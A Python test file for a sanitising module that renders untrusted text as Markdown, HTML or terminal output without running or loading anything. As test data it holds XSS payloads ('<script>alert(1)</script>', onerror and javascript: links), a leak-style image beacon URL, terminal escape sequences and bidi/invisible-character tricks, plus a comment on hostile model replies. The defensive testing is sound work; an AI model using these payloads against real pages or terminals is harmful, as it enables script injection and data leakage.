"""The one sanitising path: outside text rendered as Markdown or cleaned as HTML runs nothing and loads nothing, and
ordinary Markdown still reads as Markdown; terminals see control characters as markers."""

from __future__ import annotations

import re

import pytest
from harness.hostile_text import CONTROL_CHARACTERS, HUGE, PAYLOADS, markup_problems, payloads

from bub_nb.markup import (
    Shown,
    clean_html,
    code_block,
    code_span,
    kind_class,
    markdown_html,
    markdown_text,
    reveal_hidden,
    role_class,
    visible_controls,
)

BEACON = "http://127.0.0.1:9"


@pytest.mark.parametrize("payload", payloads(BEACON), ids=range(len(PAYLOADS)))
def test_no_payload_renders_into_anything_that_runs_or_loads(payload: str) -> None:
    for rendered in (markdown_html(payload), clean_html(payload), Shown.markdown(payload).html):
        assert markup_problems(rendered) == [], rendered
        assert "<script" not in rendered.lower() and not re.search(r"<a\s[^>]*href=\"\s*javascript:", rendered, re.I)


def test_a_markdown_image_becomes_a_link_that_loads_nothing_until_clicked() -> None:
    rendered = markdown_html(f"![chart]({BEACON}/leak?secret=1)")
    assert "<img" not in rendered
    assert f'<a href="{BEACON}/leak?secret=1" rel="noopener noreferrer nofollow">chart</a>' in rendered


def test_raw_html_in_markdown_stays_text() -> None:
    rendered = markdown_html("<b>bold?</b> and <script>alert(1)</script>")
    assert "&lt;b&gt;bold?&lt;/b&gt;" in rendered and "&lt;script&gt;" in rendered


def test_ordinary_markdown_still_renders() -> None:
    rendered = markdown_html(
        "# Title\n\nSome **bold** and *em* and `code`.\n\n- one\n- two\n\n1. first\n\n"
        "```python\nprint('hi')\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
        '[docs](https://example.org/docs) and [entry](#entry-3 "#3 message") and ~~gone~~\n\n> quoted'
    )
    for part in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<em>em</em>",
        "<code>code</code>",
        "<ul>\n<li>one</li>",
        "<ol>\n<li>first</li>",
        "<pre><code>print('hi')",
        "<table>",
        '<td style="text-align:right">2</td>',
        '<a href="https://example.org/docs" rel="noopener noreferrer nofollow">docs</a>',
        'href="#entry-3" title="#3 message"',
        "<s>gone</s>",
        "<blockquote>",
    ):
        assert part in rendered, part


def test_bub_nb_html_keeps_its_classes_data_and_layout_but_loses_what_could_run() -> None:
    written = (
        '<div class="bub-w bub-strip" data-entry-id="3" title="tip" style="width:12px;background-color:#abc">'
        '<span class="bub-cell" onclick="x()" style="background:url(http://x/)">3</span></div>'
    )
    cleaned = clean_html(written)
    assert 'class="bub-w bub-strip"' in cleaned and 'data-entry-id="3"' in cleaned and 'title="tip"' in cleaned
    assert "width:12px" in cleaned and "background-color:#abc" in cleaned
    assert "onclick" not in cleaned and "url(" not in cleaned


def test_classes_from_a_tape_map_onto_a_fixed_set() -> None:
    assert kind_class("message") == "bub-kind-message"
    assert kind_class("x' onmouseover='alert(1)") == "bub-kind-other"
    assert role_class("assistant") == "bub-role-assistant" and role_class('"><script>') == "bub-role-other"


def test_a_backtick_cannot_close_a_code_span_or_a_name_open_markup() -> None:
    span = code_span("a`` b` <img src=x onerror=alert(1)>")
    assert span.startswith("```") and span.endswith("```")
    rendered = markdown_html(f"kept: {span} ×1")
    assert rendered.count("<code>") == 1 and "&lt;img" in rendered
    name = markdown_html(f"anchor **{markdown_text('[x](javascript:alert(1)) # `y` | z')}**")
    assert "<a" not in name and "<code>" not in name and "| z" in name
    block = markdown_html(code_block("```\n</code></pre><b>x</b>\n```", "json"))
    assert "<b>" not in block and block.count("<pre>") == 1


def test_terminals_see_control_characters_as_markers() -> None:
    shown = visible_controls("\x1b]52;c;cHduZWQ=\x07 \x1b[2K\r\x9b31m tab\there\nnext \x00\x7f")
    assert not set(shown) & CONTROL_CHARACTERS
    assert "␛]52;c;cHduZWQ=␇" in shown and "\\x9b" in shown and "\t" in shown and "\n" in shown
    assert not set(Shown.markdown("\x1b[31mred").plain) & CONTROL_CHARACTERS


def test_a_lone_surrogate_from_a_tape_is_shown_as_a_marker_in_every_display() -> None:
    reply = "a **summary** \ud800 and \udfff"  # what a hostile model's reply can put on a tape
    shown = Shown.markdown(reply)
    for text in (shown.html, shown.plain, markdown_html(reply), clean_html(f"<b>{reply}</b>"), visible_controls(reply)):
        text.encode("utf-8")  # a display a front end can be sent, and nh3 can clean
        assert "⟦U+D800⟧" in text and "⟦U+DFFF⟧" in text
    assert "<strong>summary</strong>" in shown.html


def test_bidi_and_invisible_characters_are_revealed_and_counted() -> None:
    revealed, count = reveal_hidden('s = "admin\u202e\u2066 # user\u2069\u202c"\u200b\ufeff\U000e0041')
    assert count == 7
    assert "⟦U+202E⟧" in revealed and "⟦U+200B⟧" in revealed and "⟦U+E0041⟧" in revealed
    assert reveal_hidden("plain é") == ("plain é", 0)


def test_a_huge_value_renders_without_running_anything() -> None:
    rendered = markdown_html(HUGE)
    assert "<script" not in rendered and len(rendered) >= 300_000
